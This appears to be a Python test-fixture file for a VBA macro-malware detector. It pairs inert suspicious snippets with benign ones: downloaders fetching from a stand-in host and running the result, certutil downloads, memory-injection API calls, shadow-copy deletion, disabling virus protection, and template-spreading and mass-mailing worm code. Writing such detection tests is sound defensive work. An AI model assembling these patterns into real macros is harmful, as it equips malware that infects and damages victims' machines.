"""Macros as text, harmless: no address exists, no command does anything; split where a scanner might believe them."""

from tests.engine.indicator_cases.case import Case
from tests.engine.vba_samples import literal, project

_SHELL = "WScript." + "Shell"
_PS = "power" + "shell"
_HONEST = """Sub Tidy()
  Dim n As Long
  n = Range("A1").Value
  MsgBox "Rows: " & n & " of " & Sheets(1).Name
End Sub
"""


def module(*lines: str, name: str = "Document_Open") -> bytes:
    """Return a module with one procedure."""
    return "\r\n".join([f"Sub {name}()", *lines, "End Sub", ""]).encode()


def _case(positive: bytes, negative: bytes = _HONEST.encode()) -> Case:
    return Case(positive, negative, name="module.bas")


_FETCH = (
    'Private Declare PtrSafe Function get_it Lib "urlmon" Alias "URLDownload' + 'ToFileA" (ByVal a As Long, ByVal u As'
    " String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long\r\n"
)
_MEMORY = "".join(
    f'Private Declare PtrSafe Function {short} Lib "kernel32" Alias "{name}" (ByVal a As LongPtr) As LongPtr\r\n'
    for short, name in (("va", "Virtual" + "Alloc"), ("mv", "RtlMove" + "Memory"), ("ct", "Create" + "Thread"))
)
_INJECT = "p = va(0)\r\nmv p\r\nct p"
_ENCODED = f'"{_PS} -enc ' + "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB" + '"'
_RUN = f'CreateObject("{_SHELL}").Run "notepad.exe"'
_DECODE = b"Function Plain(t)\r\nPlain = Walk(t, 7)\r\nEnd Function\r\n"
_SPREAD = "NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString t"
_MAIL = (
    'For Each a In CreateObject("Outlook.Application").Session.AddressLists(1).AddressEntries\r\n'
    "m.Attachments.Add ActiveDocument.FullName\r\nNext"
)
_REVERSED = ("cmd.exe /c calc" + ".exe & rem")[::-1]

CASES = {
    "vba.macros": Case(_HONEST.encode(), b"just a note", name="module.bas", negative_name="note.txt"),
    "vba.autorun": _case(module("MsgBox 1")),
    "vba.locked": Case(
        project({"A": _HONEST}, extra={"P/PROJECT": b'DPB="' + b"A0" * 40 + b'"'}),
        project({"A": _HONEST}),
        name="a.doc",
    ),
    "vba.runs": _case(module('Shell "notepad.exe", 1', name="Go")),
    "vba.launches": _case(module(f't = "{_PS} Get-Date"', name="Go")),
    "vba.downloads": _case(module('Set h = CreateObject("MSXML2.' + 'XMLHTTP")', 'h.Open "GET", u', name="Go")),
    "vba.downloads_file": _case(
        _FETCH.encode() + module('get_it 0, "http://a.test/list.csv", "c:\\list.csv", 0, 0', name="Go"),
        module('Set h = CreateObject("MSXML2.XMLHTTP")', 'h.Open "GET", "http://a.test/"', name="Go"),
    ),
    "vba.writes": _case(module('Open "a.txt" For Output As #1', name="Go")),
    "vba.registry": _case(module(f'CreateObject("{_SHELL}").RegWrite "HKCU\\a", 1', name="Go")),
    "vba.wmi": _case(module('Set w = GetObject("winmgmts:\\\\.\\root")', name="Go")),
    "vba.persistence": _case(module('k = "HKCU\\Software\\Microsoft\\Windows\\Current' + 'Version\\Run"', name="Go")),
    "vba.obfuscated": _case(module("a = " + " & ".join(f"Chr({65 + n % 20})" for n in range(60)), name="Go")),
    "vba.hidden_window": _case(module(f'Shell "{_PS} -w hidden -File a.ps1"', name="Go")),
    "vba.auto_runs": _case(module('Shell "notepad.exe", 1'), module('Shell "notepad.exe", 1', name="Go")),
    "vba.auto_downloads": _case(
        module('Set h = CreateObject("MSXML2.' + 'XMLHTTP")'),
        module('Set h = CreateObject("MSXML2.XMLHTTP")', name="Go"),
    ),
    "vba.runs_download": _case(
        _FETCH.encode() + module('get_it 0, "http://a.test/a", p, 0, 0', "Shell p", name="Go"),
        _FETCH.encode() + module('get_it 0, "http://a.test/a.csv", p, 0, 0', 'Shell "explorer.exe"', name="Go"),
    ),
    "vba.command": _case(module(f"c = {_ENCODED}", name="Go"), module(f'c = "{_PS} -File report.ps1"', name="Go")),
    "vba.lolbin": _case(
        module('c = "cert' + 'util -urlcache -f http://a.test/a b"', name="Go"),
        module('c = "certutil -hashfile a"', name="Go"),
    ),
    "vba.auto_command": _case(module(f"Shell {_ENCODED}"), module(f'Shell "{_PS} -File report.ps1"')),
    "vba.decoded": _case(module(f'c = StrReverse2("{_REVERSED}")', name="Go")),
    "vba.hidden_text": _case(
        module('t = "pow" & "er" & "sh" & "ell" & " Get-Date"', name="Go"),
        module('t = "Total: " & n & " of " & m & " at http://a.test/"', name="Go"),
    ),
    "vba.hidden_object": _case(
        module('Set s = CreateObject("WScr" & "ipt.Sh" & "ell")', name="Go"),
        module(f'Set s = CreateObject("{_SHELL}")', name="Go"),
    ),
    "vba.auto_hidden_object": _case(
        module('Set s = CreateObject("WScr" & "ipt.Sh" & "ell")'), module(f'Set s = CreateObject("{_SHELL}")')
    ),
    "vba.coded_call": _case(
        _DECODE + module('Shell Plain("x7f3q9a1c5e2")', name="Go"),
        _DECODE + module('Shell Plain("Notepad")', name="Go"),
    ),
    "vba.auto_coded_call": _case(
        _DECODE + module('Shell Plain("x7f3q9a1c5e2")'), _DECODE + module('Shell Plain("Notepad")')
    ),
    "vba.runs_written": _case(
        module("Open p For Output As #1", "Close", "Shell p", name="Go"),
        module("Open p For Output As #1", "Close", 'Shell "notepad.exe " & p', name="Go"),
    ),
    "vba.auto_runs_written": _case(
        module("Open p For Output As #1", "Close", "Shell p"),
        module("Open p For Output As #1", "Close", 'Shell "notepad.exe " & p'),
    ),
    "vba.from_document": _case(
        module("Shell UserForm1.Label1.Caption", name="Go"), module('Shell "notepad.exe"', name="Go")
    ),
    "vba.injects": _case(
        _MEMORY.encode() + module(_INJECT, name="Go"), _MEMORY.encode()[: _MEMORY.find("\n")] + b"\n" + _HONEST.encode()
    ),
    "vba.auto_injects": _case(_MEMORY.encode() + module(_INJECT)),
    "vba.holds_program": _case(
        module('p = "4d' + "5a" + "90" * 60 + '"', name="Go"), module('p = "' + "4d" * 60 + '"')
    ),
    "vba.damage": _case(module('c = "vss' + 'admin delete shadows /all"', name="Go")),
    "vba.protection": _case(
        module("Options.Virus" + "Protection = False", name="Go"), module("x = Options.VirusProtection", name="Go")
    ),
    "vba.sandbox": _case(
        module('If p = "wire' + 'shark" Or p = "pro' + 'cmon" Or p = "vm' + 'ware" Then End', name="Go"),
        module('If p = "vmware" Then MsgBox "virtual machine"', name="Go"),
    ),
    "vba.spreads": _case(
        module(_SPREAD, name="Go"),
        module("ThisWorkbook.VBProject.VBComponents(1).CodeModule.AddFromString t", name="Go"),
    ),
    "vba.mails_itself": _case(module(_MAIL, name="Go"), module("m.Attachments.Add ThisWorkbook.FullName", name="Go")),
    "vba.xlm_bridge": _case(
        module("ExecuteExcel4" + 'Macro "EX" & "EC(""notepad"")"', name="Go"),
        module('v = ExecuteExcel4Macro("GET.CELL(1)")'),
    ),
    "vba.stomped": Case(
        project({"A": _HONEST}, caches={"A": b"".join(literal(f"another text {n}") for n in range(9))}),
        project({"A": _HONEST}, caches={"A": literal("Rows: ") + literal(" of ")}),
        name="a.doc",
    ),
    "vba.source_missing": Case(
        project({"A": 'Attribute VB_Name = "A"\r\n'}, caches={"A": bytes(9000)}, identifiers=b"\0Shell\0Environ\0"),
        project({"A": _HONEST}, caches={"A": bytes(9000)}, identifiers=b"\0Range\0MsgBox\0"),
        name="a.doc",
    ),
    "vba.dropper": _case(
        _FETCH.encode() + module('get_it 0, "http://a.test/a", p, 0, 0', "Shell p"),
        _FETCH.encode() + module('get_it 0, "http://a.test/a.csv", p, 0, 0', "Workbooks.Open p"),
    ),
    "vba.opening_command": _case(module(f"Shell {_ENCODED}"), module(f'Shell "{_PS} -File report.ps1"')),
    "vba.opening_decoded": _case(
        module(_RUN, f'c = Decode("{_REVERSED}")'), module(_RUN, 'c = Decode("44 8291 3321 9920")')
    ),
    "vba.opening_hidden": _case(
        module('Set s = CreateObject("WScr" & "ipt.Sh" & "ell")', 's.Run "notepad.exe"'), module(_RUN)
    ),
    "vba.opening_injection": _case(_MEMORY.encode() + module(_INJECT), module("p = 1")),
    "vba.opening_program": _case(module('p = "4d' + "5a" + "90" * 60 + '"', _RUN), module(_RUN)),
    "vba.virus": _case(
        module(_SPREAD, "Options.Virus" + "Protection = False"),
        module("Options.SaveInterval = 5", "NormalTemplate.Save"),
    ),
    "vba.mail_worm": _case(module(_MAIL), module("m.Attachments.Add ThisWorkbook.FullName")),
}
